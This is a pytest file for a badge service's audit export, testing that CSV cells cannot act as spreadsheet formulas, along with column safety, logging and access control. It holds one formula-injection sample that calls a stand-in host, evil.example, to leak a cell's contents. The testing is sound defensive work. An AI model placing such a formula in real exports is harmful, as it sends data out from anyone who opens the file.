"""The file that an administrator takes along opens in a spreadsheet, and nothing in it runs there."""

import csv
from collections.abc import Callable
from io import StringIO

import pytest
from sqlmodel import col, select, update

from badgeservice.catalogue import Catalogue
from badgeservice.errors import NotFound
from badgeservice.services.audit import export
from badgeservice.services.audit.export import export_trail, safe_cell
from badgeservice.services.audit.sentences import Kind
from badgeservice.services.audit.trail import Asked
from badgeservice.services.parts import Parts, SignedIn
from badgeservice.store.audit import AuditAction
from badgeservice.store.tables import AuditEvent, Award
from tests.conftest import School

EVIL = '=HYPERLINK("https://evil.example?"&A1,"Klik")'
Export = Callable[..., list[dict[str, str]]]


@pytest.fixture
def rows(parts: Parts, school: School, administrator: SignedIn) -> Export:
    def read(asked: Asked | None = None, language: str = "nl") -> list[dict[str, str]]:
        say = lambda sentence: Catalogue().say(sentence, language)  # noqa: E731
        text = "".join(export_trail(parts, administrator, school.slug, asked or Asked(), language, say))
        assert text.startswith("\ufeff")
        return list(csv.DictReader(StringIO(text[1:], newline=""), delimiter=";" if language == "nl" else ","))

    return read


def test_a_name_that_is_a_formula_is_a_text(rows: Export, parts: Parts, award: Callable[[str], None]) -> None:
    award("Sanne Willems")
    with parts.transaction() as session:
        session.exec(update(Award).values(learner_name=EVIL))
    found = rows(Asked(kind=Kind.AWARDS))
    assert any(EVIL in row["what happened"] for row in found)
    assert all(cell[:1] not in {"=", "+", "-", "@"} for row in found for cell in row.values())


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r=", "\n@", " =", "＝", "\u200b=", "\u2068=", "|", "%"])
def test_no_cell_begins_as_a_formula(begin: str) -> None:
    safe = safe_cell(f"{begin}1+1")
    assert safe.startswith("'")
    assert not {"\t", "\r", "\n"} & set(safe)


@pytest.mark.parametrize("text", ["Sanne", "2026-11-23", "a=b", "Jan-Piet", "", 'zegt "ja"; en', "می‌خواهم"])
def test_other_cells_stay_as_they_are(text: str, rows: Export) -> None:
    assert safe_cell(text) == text


def test_separators_and_quotes_in_a_name_do_not_move_columns(
    rows: Export, parts: Parts, award: Callable[[str], None]
) -> None:
    award("Sanne Willems")
    for language in ("nl", "en"):
        with parts.transaction() as session:
            session.exec(update(Award).values(learner_name='Ann "A"; B, C'))
        issued = [row for row in rows(language=language) if row["act"] == "credential:issue"]
        assert [
            row["what happened"].endswith('Ann "A"; B, C.') or 'Ann "A"; B, C' in row["what happened"] for row in issued
        ] == [True]
        assert issued[0]["time"] == "2026-11-23T09:00:00+00:00"
        assert issued[0]["organisation"] == "ROC Midden"
        assert issued[0]["who"] == "Tess Bakker"


def test_taking_it_along_is_written_down_without_what_was_typed(
    rows: Export, parts: Parts, school: School, administrator: SignedIn
) -> None:
    rows(Asked(words="Sanne Willems"))
    with parts.reading() as session:
        event = session.exec(select(AuditEvent)).one()
    assert (event.action, event.actor_id) == (AuditAction.AUDIT_EXPORT, administrator.person_id)
    assert event.details == {"kind": None, "filtered": 1}
    assert [row["what happened"] for row in rows()][-1] == "Bram de Boer downloadde wat er gebeurde."


def test_it_comes_in_pieces_and_ends(
    rows: Export, parts: Parts, school: School, award: Callable[[str], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "AT_ONCE", 2)
    for name in ("A", "B", "C"):
        award(name)
    found = rows()
    assert len(found) == len({row["id"] for row in found}) == 7
    monkeypatch.setattr(export, "MOST", 4)
    cut = rows()
    assert len(cut) == 5
    assert cut[-1]["time"].startswith("Er is meer")


def test_another_organisation_takes_nothing(
    parts: Parts, school: School, administrator: SignedIn, company_teacher: SignedIn
) -> None:
    for person, slug in ((administrator, school.company_slug), (company_teacher, school.slug)):
        with pytest.raises(NotFound):
            export_trail(parts, person, slug, Asked(), "nl", str)
    with parts.reading() as session:
        actions = session.exec(select(AuditEvent.action).order_by(col(AuditEvent.id))).all()
    assert set(actions) == {AuditAction.ACCESS_REFUSE}
